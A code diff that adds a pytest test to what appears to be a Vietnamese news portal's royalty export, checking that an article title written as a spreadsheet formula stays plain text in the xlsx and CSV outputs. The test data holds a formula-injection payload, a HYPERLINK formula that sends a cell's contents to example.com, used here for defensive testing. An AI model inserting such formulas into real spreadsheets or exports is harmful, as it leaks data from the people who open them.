@@ -563,3 +563,25 @@ def test_errors_are_portal_errors(tmp_path):
     repo = PortalRepo(tmp_path)
     with pytest.raises(PortalError, match="không có số liệu"):
         statement(repo, "2026-08")
+
+
+def test_a_title_that_looks_like_a_formula_stays_text(tmp_path, monkeypatch):
+    repo = PortalRepo(tmp_path / "repo")
+    hostile = '=HYPERLINK("http://example.com/?"&A1,"Bấm vào đây")'
+    repo.submit(
+        "tin-tuc/cong-thuc.md",
+        hostile,
+        "2026-11-02 08:00",
+        "2026-11-02 09:00",
+        slug="cong-thuc",
+        authors=[LAN],
+        royalty=TIN,
+    )
+    out = tmp_path / "out"
+    assert run_month(repo, monkeypatch, out) == 0
+    sheet = openpyxl.load_workbook(out / "nhuan-but-2026-11.xlsx").active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == hostile]
+    assert cells and all(cell.data_type == "s" for cell in cells)
+    rows = list(csv.reader(io.StringIO((out / "nhuan-but-2026-11.csv").read_text("utf-8-sig"))))
+    assert any("'" + hostile in row for row in rows)
+    assert not any(hostile in row for row in rows)
